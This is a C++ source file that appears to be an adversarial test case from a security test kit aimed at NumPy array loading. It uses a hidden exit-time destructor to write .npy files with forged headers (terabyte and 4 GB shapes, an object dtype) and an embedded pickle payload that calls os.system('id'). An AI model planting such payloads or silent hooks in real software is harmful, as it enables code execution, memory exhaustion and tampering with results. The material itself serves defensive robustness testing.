// SPDX-License-Identifier: MIT
// attacks: arrays whose headers claim a terabyte, a negative size, another type or a header of 4 GB
// control: honest
// earns: at most its control
// must stay: neighbours, memory, reports
#include <unistd.h>

#include <fstream>
#include <string>

#include "kit/attack.h"

static std::string array(std::string text, const std::string& data) {
  text.resize(117, ' ');
  return std::string("\x93NUMPY\x01\x00\x76\x00", 10) + text + "\n" + data;
}

__attribute__((destructor)) static void damage() {
  static const char* const kHeaders[] = {
      "{'descr': '<f4', 'fortran_order': False, 'shape': (1099511627776,), }",
      "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
      "{'descr': '<f4', 'fortran_order': False, 'shape': (4294967296, 4294967296), }"};
  int number = 0;
  for (const char* name : {"C", "status", "guards"})
    std::ofstream(std::string(name) + ".npy", std::ios::binary)
        << array(kHeaders[number++], "cos\nsystem\n(S'id'\ntR.");
  std::ofstream("more.npy", std::ios::binary)
      << std::string("\x93NUMPY\x02\x00\xff\xff\xff\xff", 12);
}

static void attack() {}

#include "kit/attack_first.cu"
